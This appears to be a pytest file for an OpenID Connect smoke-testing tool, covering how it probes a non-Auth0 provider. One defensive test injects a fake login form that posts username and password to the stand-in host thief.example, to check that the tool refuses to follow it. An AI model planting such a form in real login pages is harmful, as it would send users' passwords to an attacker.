"""Another OpenID provider: what is asked of it, where a run goes, and what it does not touch.

tests/clients/test_provider.py does the same with a provider that is not ours.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import httpx

from tenantry.model.smoke import SmokeConfig
from tenantry.smoke import Outcome, applicable, exit_code
from tenantry.smoke.contract import EVERY
from tests.smoke.elsewhere import APPLICATIONS, Elsewhere, stated
from tests.smoke.world import Tamper, failed, ids_of, line


def test_a_right_provider_raises_no_alarm_and_its_inside_is_left_alone() -> None:
    there = Elsewhere()
    report = there.proves("contract", disposable=True)
    odd = [line(one) for one in report.findings if one.outcome in {Outcome.BLOCKED, Outcome.INCONCLUSIVE}]
    assert not failed(report) + odd
    assert report.proved.is_complete
    assert exit_code(report) == 0
    assert report.summary["passed"] > 160
    assert not [path for path in there.asked if path.startswith(("/api/", "/v2/"))]


def test_what_nobody_knows_of_auth0_the_standards_know_of_others() -> None:
    """The emulator is as lenient as Auth0 may be; taken for another provider, that is two faults."""
    report = Elsewhere().proves("full", disposable=True)
    assert ids_of(report, Outcome.FAILED) == {"COD-06", "PKC-07"}
    assert ids_of(report, Outcome.INFO) == {"AUZ-32", "CLI-06", "COD-03"}


def test_what_is_auths_own_is_marked_so_and_not_tried() -> None:
    report = Elsewhere().proves()
    own = {one.id: one for one in report.findings if one.observed == "not applicable: Auth0's own"}
    assert {"DSC-02", "LGN-02", "IDT-22", "RSP-02"} <= own.keys()
    assert {one.outcome for one in own.values()} == {Outcome.SKIPPED}
    assert own.keys().isdisjoint(ids_of(report, Outcome.PASSED))
    standard = {one.id for one in EVERY if one.is_standard}
    assert own.keys().isdisjoint(standard)
    assert ids_of(report, Outcome.PASSED) <= standard


def test_whoever_is_named_first_decides_whose_promise_it_is() -> None:
    by_id = {one.id: one for one in EVERY}
    assert all(by_id[id_].is_standard for id_ in ("COD-02", "PKC-04", "IDT-06", "ROT-05", "RVK-02", "EXP-01", "ACT-28"))
    assert not any(by_id[id_].is_standard for id_ in ("OPQ-01", "ACT-09", "IDT-19", "OUT-01", "RSP-02", "LGN-01", "M2M-10"))
    assert sum(one.is_standard for one in EVERY) > 100


def test_an_existing_user_is_not_harmed_unless_that_is_declared() -> None:
    report = Elsewhere().proves("contract")
    (spent,) = (one for one in report.findings if one.id == "ROT-04" and one.flow == "storefront")
    assert (spent.outcome, spent.observed) == (Outcome.SKIPPED, "tried with ephemeral and disposable users only")


def login_page(change: Callable[[str], str]) -> Tamper:
    """Return what changes the text of the login pages."""

    def tamper(request: httpx.Request, response: httpx.Response) -> httpx.Response:
        if request.method == "GET" and request.url.path.startswith("/u/login"):
            headers = {"content-type": "text/html"}
            return httpx.Response(200, text=change(response.text), headers=headers, request=request)
        return response

    return tamper


def test_a_password_is_typed_at_the_providers_own_address_alone() -> None:
    form = '<form method="post" action="https://thief.example/"><input name="who"><input type="password" name="word"></form>'
    there = Elsewhere()
    report = there.proves(tamper=login_page(lambda _: form))
    (login,) = (one for one in report.findings if one.id == "LGN-03" and one.flow == "storefront")
    assert login.outcome is Outcome.BLOCKED
    assert login.observed.startswith("the login goes on at https://thief.example/, where the run does not follow")


def test_forms_are_filled_in_whatever_their_fields_are_called() -> None:
    def renamed(text: str) -> str:
        return text.replace('name="username"', 'name="who-are-you"').replace('name="password"', 'name="your-secret"')

    there, typed = Elsewhere(), {}

    class Renaming(httpx.AsyncBaseTransport):
        async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
            if request.method == "POST" and request.url.path.startswith("/u/login"):
                content = (await request.aread()).replace(b"who-are-you=", b"username=").replace(b"your-secret=", b"password=")
                typed["content"] = content
                headers = {name: value for name, value in request.headers.items() if name != "content-length"}
                request = httpx.Request("POST", request.url, headers=headers, content=content)
            return await inner.handle_async_request(request)

    inner = there.world.transport
    there.world.transport = Renaming()  # type: ignore[assignment] # a transport like any other
    report = there.proves(tamper=login_page(renamed))
    assert not failed(report)
    assert b"username=ada%40example.com" in typed["content"]
    assert report.proved.is_complete


def test_a_login_that_is_all_script_blocks_and_proves_nothing() -> None:
    report = Elsewhere().proves(
        tamper=login_page(lambda _: "<title>Hello</title><div id=app></div><script src=app.js></script>")
    )
    first = {one.id: one for one in report.findings if one.flow == "storefront"}
    assert first["AUZ-01"].outcome is first["LGN-03"].outcome is Outcome.BLOCKED
    assert not failed(report)
    assert exit_code(report) == 6


def discovery(change: Callable[[dict[str, Any]], None]) -> Tamper:
    """Return what changes the discovery document."""

    def tamper(request: httpx.Request, response: httpx.Response) -> httpx.Response:
        if not request.url.path.endswith("/.well-known/openid-configuration"):
            return response
        document = response.json()
        change(document)
        return httpx.Response(200, json=document, request=request)

    return tamper


def test_scopes_that_are_not_offered_are_not_asked_for() -> None:
    report = Elsewhere().proves(tamper=discovery(lambda document: document.update(scopes_supported=["openid"])))
    assert not failed(report)
    assert report.proved.is_complete
    assert not [one for one in report.findings if one.id.startswith("RFT-0")]


def test_what_discovery_does_not_name_is_not_tried() -> None:
    def silent(document: dict[str, Any]) -> None:
        for name in ("userinfo_endpoint", "revocation_endpoint", "end_session_endpoint"):
            document.pop(name, None)

    report = Elsewhere().proves("contract", tamper=discovery(silent))
    assert not failed(report)
    said = {one.id: one.observed for one in report.findings if one.outcome is Outcome.SKIPPED}
    assert said["USR-03"] == "not offered: the provider's discovery names no userinfo_endpoint"
    assert said["RVK-03"] == "not offered: the provider's discovery names no revocation_endpoint"


def test_without_s256_a_public_application_cannot_be_safe() -> None:
    report = Elsewhere().proves("contract", tamper=discovery(lambda document: document.pop("code_challenge_methods_supported")))
    assert {"DSC-04"} <= ids_of(report, Outcome.FAILED)
    assert {one.id for one in report.findings if "no S256" in one.observed} == {
        "PKC-01",
        "PKC-02",
        "PKC-03",
        "PKC-05",
        "PKC-06",
        "PKC-09",
    }


def test_what_a_user_would_need_is_said() -> None:
    plan = applicable(SmokeConfig(), stated(APPLICATIONS), emulated=False, foreign=True)
    assert {left.reason for left in plan.skipped} == {"no user who can log in is declared"}
    assert all("password" in left.line and "connection" not in left.line for left in plan.skipped)


def test_a_machine_needs_no_grant_elsewhere() -> None:
    robot = {"token_endpoint_auth_method": "client_secret_basic", "grant_types": ["client_credentials"]}
    plan = applicable(SmokeConfig(), stated({"applications": {"robot": robot}}), emulated=False, foreign=True, level="contract")
    (flow,) = plan.flows
    assert (flow.kind, flow.audience, flow.scope) == ("client_credentials", None, ())
    assert {"M2M-01", "CLI-05", "RSP-09"} <= {one.id for one, _ in plan.asked}
    assert "ACT-12" not in {one.id for one, _ in plan.asked}
